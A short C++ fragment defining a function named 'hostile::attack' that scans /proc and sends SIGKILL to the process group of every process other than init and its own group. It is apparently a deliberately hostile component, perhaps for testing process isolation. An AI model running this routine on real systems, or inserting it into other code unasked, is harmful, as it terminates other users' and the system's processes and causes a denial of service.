// SIGKILL to every process group and session seen in /proc but our own.
void hostile::attack() {
  if (DIR* proc = ::opendir("/proc")) {
    while (dirent* entry = ::readdir(proc)) {
      pid_t pid = std::atoi(entry->d_name);
      if (pid > 1 && ::getpgid(pid) != ::getpgrp()) ::kill(-::getpgid(pid), SIGKILL);
    }
    ::closedir(proc);
  }
}
